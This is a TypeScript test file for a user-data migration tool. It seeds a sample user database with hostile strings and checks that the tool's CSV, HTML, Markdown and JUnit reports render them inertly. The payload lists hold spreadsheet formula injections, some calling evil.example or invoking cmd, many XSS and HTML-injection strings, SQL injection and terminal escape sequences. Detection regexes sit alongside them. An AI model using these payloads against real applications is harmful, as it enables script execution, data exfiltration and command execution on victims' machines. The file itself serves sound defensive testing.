import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { type Browser, chromium } from '@playwright/test';
import Database from 'better-sqlite3';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { coverageCsv } from '#reporters/coverage-csv.ts';
import { SCRIPTS } from '#test/bad-input.ts';
import { commandLine } from '#test/command-line.ts';
import { startEngine } from '#test/engine.ts';
import { sqliteSampleProject } from '#test/sample-project.ts';
import { removeFolder, temporaryFolder } from '#test/temporary-folder.ts';

/** Values that become more than text wherever a report forgets that they are data. */
const SHEETS = [
  `=HYPERLINK("http://evil.example/?"&A1,"click")`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  '+49"; DROP TABLE app_users; --',
  "-2+3+cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '\u2003@SUM(1)',
  '\ufeff=1+1',
  '\u0000=1+1',
  '\u200e=1+1',
  '\uff1d1+1',
  '\uff0bSUM(1)',
  '\uff0d1+cmd',
  '\uff20SUM(1)',
  '"=1+1',
  '",=1+1,"',
  '"\r\n=1+1,"',
  '=1+1\u0000',
  '%0A=1+1',
] as const;
const PAGES = [
  '<img src=x onerror=owned()>',
  '<img src=http://evil.example/x.png>',
  '</script><script>owned()</script>',
  '</style><style>@import url(http://evil.example/x.css);*{background:url(http://evil.example/y)}</style>',
  '</title><script>owned()</script>',
  '</textarea><script>owned()</script>',
  '--><script>owned()</script><!--',
  ']]><x/>&xxe;',
  '"><svg/onload=owned()>',
  `' onmouseover='owned()' x='`,
  '" onfocus="owned()" autofocus tabindex="0" x="',
  '`onload=owned()`',
  '${owned()}{{owned()}}#{owned()}<%= owned() %>',
  '<svg><animate onbegin=owned() attributeName=x dur=1s>',
  '<math><mtext></p><img src=x onerror=owned()>',
  '<iframe srcdoc="<script>parent.owned()</script>">',
  '<object data="http://evil.example/x">',
  '<base href="http://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
  '<link rel=stylesheet href=http://evil.example/x.css>',
  '<form action=http://evil.example><input autofocus onfocus=owned()>',
  'javascript:owned()',
  'java\u0000script:owned()',
  'data:text/html,<script>owned()</script>',
  '&lt;script&gt;owned()&lt;/script&gt;',
  '&#60;img src=x onerror=owned()&#62;',
  '\u003cimg src=x onerror=owned()\u003e',
  '\uff1cscript\uff1eowned()\uff1c/script\uff1e',
  '[a](javascript:owned()) | b | `c`',
  '![a](http://evil.example/x.png)',
  '[a]: javascript:owned()',
  '<http://evil.example/>',
  '\n\n# owned\n\n<script>owned()</script>\n\n```\n',
  '\u001b[2J\u001b]0;owned\u0007',
  '\u202egnp.exe\u2066\u200b\u200d\ufeff',
  '\ud800\udfff\udc00\uffff\ufffe\u0000\u0001\u000b\u001f',
] as const;
const HOSTILE = [...SHEETS, ...PAGES];

const engine = startEngine();
const { client } = engine;
let folder = '';
let project = '';
let trial = '';
let lazy = '';

/** Scripts that say the same, each user another. */
const LOUD = (name: string, parameters: string) => `
const BAD = ${JSON.stringify(HOSTILE)};
function ${name}(${parameters}) {
  const callback = arguments[arguments.length - 1];
  global.count = (global.count || 0) + 1;
  const bad = BAD[global.count % BAD.length];
  if (global.count % 2) throw Object.assign(new Error(bad), { name: bad, code: bad });
  callback(new Error(bad));
}
`;

beforeAll(async () => {
  folder = temporaryFolder('injected');
  project = await sqliteSampleProject(join(folder, 'acme'), { users: 600 });
  const legacy = new Database(join(project, 'legacy.db'));
  const ids = legacy.prepare('SELECT id FROM app_users ORDER BY id').pluck().all() as number[];
  const update = legacy.prepare(
    `UPDATE app_users SET display_name = @text, first_name = @text, login_name = @text, status = @text,
       email = 'u' || id || '@' || @text, pw_scheme = @text,
       profile_json = json_object('plan', @text, @text, 'x') WHERE id = @id`,
  );
  legacy.transaction(() => {
    for (const [index, id] of ids.entries()) update.run({ id, text: HOSTILE[index % HOSTILE.length] });
  })();
  legacy.close();
  writeFileSync(join(project, SCRIPTS, 'login.js'), LOUD('login', 'email, password'));
  writeFileSync(join(project, SCRIPTS, 'get_user.js'), LOUD('getByEmail', 'email'));
  const settings = JSON.parse(readFileSync(join(project, 'userferry.json'), 'utf8')) as object;
  writeFileSync(
    join(project, 'userferry.json'),
    JSON.stringify({ ...settings, name: PAGES.slice(0, 4).join('') }),
  );
  trial = (await engine.trial({ project, kind: 'bulk' })).trial.id;
  lazy = (await engine.trial({ project, kind: 'lazy', filter: { limit: 120 } })).trial.id;
}, 120_000);
afterAll(async () => {
  await engine.close();
  removeFolder(folder);
});

/** Cells of a sheet that a program of tables would run, or that steer whoever prints them. */
const dangerous = (text: string): readonly string[] =>
  parse(text, { relax_column_count: true, bom: true })
    .flat()
    .filter(
      (cell) =>
        /^[\s\ufffd\ufeff\u200b-\u200f]*[=+\-@\uff1d\uff0b\uff0d\uff20]/.test(cell) &&
        !/^-?\d+(\.\d+)?$/.test(cell),
    );

const rendered = async (format: 'html' | 'markdown' | 'junit' | 'csv', of = trial): Promise<string> =>
  (await client.trials.render({ project, trial: of, format })).text;

describe('values of rows that want to be more than text', () => {
  it('run in no sheet: findings, coverage, the list of an audit', async () => {
    const sheets = [await rendered('csv'), await rendered('csv', lazy)];
    for (const by of ['emailDomain', 'appMetadata.plan', 'hashFormat']) {
      sheets.push(coverageCsv(await client.coverage.show({ project, trial, by })));
    }
    let list = '';
    const request = {
      project,
      against: { kind: 'trial', trial },
      list: true,
      listAs: 'csv',
      personalData: true,
      values: true,
    } as const;
    for await (const event of await client.audit.run(request)) if (event.type === 'text') list += event.text;
    sheets.push(list);
    expect({
      dangerous: sheets.flatMap(dangerous),
      // What they were made of is in them: as text.
      told: sheets.some((sheet) => sheet.includes('HYPERLINK')),
      people: list.split('\n').length > 500,
    }).toEqual({ dangerous: [], told: true, people: true });
  });

  it('become no markup of a page, of Markdown or of XML, and steer no terminal', async () => {
    const [html, markdown, junit] = [
      await rendered('html'),
      await rendered('markdown'),
      await rendered('junit'),
    ];
    // A backslash before it makes Markdown show the sign itself.
    const markup = [/(?<!\\)<img src=x/i, /(?<!\\)<svg\/onload/i, /(?<!\\)<script>owned/i];
    expect({
      html: markup.filter((pattern) => pattern.test(html)),
      junit: [...markup, /<x\/>/, /&xxe;/].filter((pattern) => pattern.test(junit)),
      markdown: [...markup, /(?<!\\)\[a\]\(javascript:/].filter((pattern) => pattern.test(markdown)),
      // oxlint-disable-next-line no-control-regex -- control characters are what is looked for
      control: [html, markdown, junit].map((text) => /[\u0007\u001b\u202e]/.test(text)),
    }).toEqual({ html: [], junit: [], markdown: [], control: [false, false, false] });
  });
});

/** Everything that a command can write as a page, a table for people or XML. */
async function written(): Promise<readonly string[]> {
  const out = (name: string) => join(folder, name);
  const commands = [
    ['report', trial, '-f', 'html', '--personal-data', '--out', out('bulk.html')],
    ['report', lazy, '-f', 'html', '--personal-data', '--out', out('lazy.html')],
    ['report', trial, '-f', 'junit', '--personal-data', '--out', out('bulk.xml')],
    ['report', lazy, '-f', 'junit', '--personal-data', '--out', out('lazy.xml')],
    ['audit', '--against', trial, '--personal-data', '--values', '-o', out('audit.html')],
    ['plan', '-f', 'html', '--personal-data', '-o', out('plan.html')],
  ];
  for (const words of commands) await commandLine([...words, '-p', project], folder);
  return ['bulk.html', 'lazy.html', 'audit.html', 'plan.html', 'bulk.xml', 'lazy.xml'].map(out);
}

describe('pages of reports in a browser', () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await chromium.launch({
      executablePath: process.env['CHROMIUM'] ?? '/usr/bin/chromium',
      args: ['--disable-dev-shm-usage', '--no-sandbox'],
    });
  });
  afterAll(() => browser.close());

  it('run nothing, ask nobody and hold nothing but what we put there', { timeout: 120_000 }, async () => {
    const context = await browser.newContext();
    const trouble: string[] = [];
    await context.exposeFunction('owned', () => trouble.push('a script ran'));
    const looks = [];
    let told = 0;
    for (const path of await written()) {
      const page = await context.newPage();
      page.on('dialog', (dialog) => void dialog.dismiss());
      page.on('request', (request) => {
        if (request.url() !== pathToFileURL(path).href) trouble.push(`${path}: ${request.url()}`);
      });
      await page.goto(pathToFileURL(path).href);
      looks.push(await page.evaluate(LOOK));
      if ((await page.locator(':root').textContent())?.includes('owned()') === true) told += 1;
      // Whatever waits for a hand: focus, hovering, a click on each link.
      await page.evaluate(TOUCH);
      await page.waitForTimeout(100);
      await page.close();
    }
    await context.close();
    const nothing = { handlers: [], frames: 0, foreign: [], scripts: [], broken: 0 };
    expect({ trouble, looks }).toEqual({ trouble: [], looks: looks.map(() => nothing) });
    // What they were made of is in them: as text.
    expect([looks.length, told >= 3]).toEqual([6, true]);
  });
});

/** What a page must not hold, wherever it came from. Runs in the page. */
const LOOK = `(() => {
  const all = [...document.querySelectorAll('*')];
  const foreign = all.flatMap((one) => [...one.attributes])
    .filter(({ name, value }) => /^(href|src|action|data|srcdoc|formaction|xlink:href)$/.test(name) && !/^(#|data:,)/.test(value));
  return {
    handlers: all.flatMap((one) => [...one.attributes].filter(({ name }) => /^on/i.test(name)).map(({ name }) => name)),
    frames: document.querySelectorAll('iframe, object, embed, base, form, link[rel=stylesheet]').length,
    foreign: foreign.map(({ name, value }) => name + '=' + value),
    scripts: [...document.scripts].map((one) => one.textContent).filter((text) => /owned/.test(text)),
    broken: document.querySelectorAll('parsererror').length,
  };
})()`;
const TOUCH = `(() => {
  for (const one of document.querySelectorAll('*')) {
    for (const name of ['mouseover', 'focus', 'pointerenter', 'toggle']) one.dispatchEvent(new Event(name, { bubbles: true }));
    if (one.tagName === 'DETAILS') one.open = true;
  }
  for (const link of document.querySelectorAll('a, summary, button')) link.click();
})()`;
